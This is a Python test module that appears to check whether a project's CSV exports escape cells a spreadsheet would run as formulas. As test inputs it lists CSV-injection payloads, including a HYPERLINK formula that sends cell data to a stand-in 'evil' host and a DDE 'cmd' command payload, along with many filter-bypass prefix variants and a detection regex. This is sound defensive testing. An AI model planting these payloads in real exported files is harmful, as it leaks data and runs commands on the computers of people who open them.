"""Text in a dataset that a spreadsheet would run as formulas, in CSV files made for spreadsheets.

Parquet tables store all text unchanged.
"""

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
from faults.injector import Fault

from eyechart.mining import export_labels
from eyechart.report.chart_style import draw, empty
from eyechart.tables.parquet import read_table, write_table

KIND = "Cells that are formulas"
FORMULAS = {
    "a sum": "=1+1",
    "a link that sends data": '=HYPERLINK("http://evil/?"&A1,"see")',
    "a command": "=cmd|'/C calc'!A0",
    "a plus": "+1+1",
    "a minus": "-2+3",
    "an at sign": "@SUM(1+1)",
    "a tab before it": "\t=1+1",
    "a line end before it": "\r=1+1",
    "a fullwidth equals sign": "\uff1d1+1",
    "a fullwidth at sign": "\uff20SUM(1+1)",
    "a blank before it": " =1+1",
    "a no-break space before it": "\u00a0=1+1",
    "a byte order mark before it": "\ufeff=1+1",
    "a quote before it": '"=1+1',
    "a semicolon before it": "a;=1+1",
    "a semicolon and quotes before it": 'a;""=1+1',
    "a tab in the middle before it": "a\t@SUM(1+1)",
    "a line end in the middle before it": "a\n+1+1",
    "a semicolon and a fullwidth plus": "a;\uff0b1+1",
}
SEPARATORS = ",;\t"  # a spreadsheet may split at each of them, depending on its language
FORMULA = re.compile(r'["\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]')
NUMBER = re.compile(r"-?[0-9.]+")


def evaluated(file: str) -> list[str]:
    """Return the cells of a CSV file that some spreadsheet would take for a formula."""
    text = Path(file).read_bytes().decode()
    pieces = re.split(rf"[{SEPARATORS}\r\n]", text)  # as if no quote counted
    read = [csv.reader(io.StringIO(text, newline=""), delimiter=one) for one in SEPARATORS]
    cells = [*pieces, *(cell for rows in read for row in rows for cell in row)]
    return [cell for cell in cells if FORMULA.match(cell) and not NUMBER.fullmatch(cell)]


def figure(text: str) -> Callable[[], Any]:
    """Return a function that draws a figure with a text and numbers, and reads its CSV."""

    def inject() -> Any:
        chart = empty("title", "reason")
        chart["datasets"]["points"] = [{"task": text, "value": -0.5, "n": 3}]
        draw(Path("figure"), chart, 1)
        with open("figure.csv", newline="", encoding="utf-8") as file:
            cells = list(csv.reader(file))[1]
        cells[0] = cells[0].replace("'", "")
        return (cells, evaluated("figure.csv")), ([text.replace("'", ""), "-0.5", "3"], [])

    return inject


def labels(text: str) -> Callable[[], Any]:
    """Return a function that exports image pairs with this path, and reads the form and table."""

    def inject() -> Any:
        pairs = pa.table({"first_id": ["a"], "second_id": ["b"]})
        images = pa.table({"image_id": ["a", "b"], "path": [text, "b.png"]})
        write_table(Path("pairs.parquet"), pairs)
        write_table(Path("images.parquet"), images)
        export_labels.main(["--pairs", "pairs.parquet", "--images", "images.parquet",
                            "--output", "labels.csv"])  # fmt: skip
        with open("labels.csv", newline="", encoding="utf-8") as file:
            cells = [row[-1] for row in csv.reader(file)][1:]
        kept = read_table(Path("images.parquet"), ["path"]).column("path").to_pylist()
        without = [cell.replace("'", "") for cell in cells]
        expected = [text.replace("'", ""), "b.png"]
        return (without, kept, evaluated("labels.csv")), (expected, [text, "b.png"], [])

    return inject


FAULTS = [
    *(Fault(what, "a figure's CSV", "accepted", figure(text)) for what, text in FORMULAS.items()),
    *(
        Fault(what, "labels.csv", "accepted", labels(text))
        for what, text in FORMULAS.items()
        if "\r" not in text
    ),
]
